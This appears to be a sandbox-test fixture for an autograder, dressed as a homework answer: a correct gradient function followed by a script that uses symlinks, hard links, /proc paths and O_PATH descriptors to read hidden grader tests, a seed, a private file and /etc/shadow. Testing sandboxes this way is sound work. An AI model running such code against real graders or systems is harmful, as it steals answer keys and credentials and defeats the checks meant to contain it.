# /// attack
# tries = "reaches files through symbolic and hard links, and opened folders"
# total = 2
# [parts]
# 2d = "right"
# ///

# %%
def aufgabe_2d(W, x, grad_y):
    return W.T @ grad_y

# %%
import os


def dump(path, depth=0):
    """Print a file, or everything below a folder."""
    try:
        if os.path.isdir(path):
            names = os.listdir(path)
            print(path, names[:200])
            for name in names[:200] if depth < 5 else ():
                dump(os.path.join(path, name), depth + 1)
        else:
            with open(path, "rb") as file:
                print(path, file.read(20_000))
    except OSError as error:
        print(path, type(error).__name__)

# %%
targets = ["@COURSE@/tests", "@OUT@/seed", "@HOME@/.geheim", "/etc/shadow", "/proc/1/root/etc"]
for number, target in enumerate(targets):
    os.symlink(target, f"soft{number}")
    dump(f"soft{number}")
    try:
        os.link(target, f"hard{number}")
        dump(f"hard{number}")
    except OSError as error:
        print(error)
    try:
        folder = os.open(target, os.O_PATH)
        dump(f"/proc/self/fd/{folder}")
    except OSError as error:
        print(error)
for start in ("/proc/self/root", "/proc/1/root", "/proc/self/cwd/../../../..", "/proc/@PID@/root"):
    dump(f"{start}@COURSE@/tests")
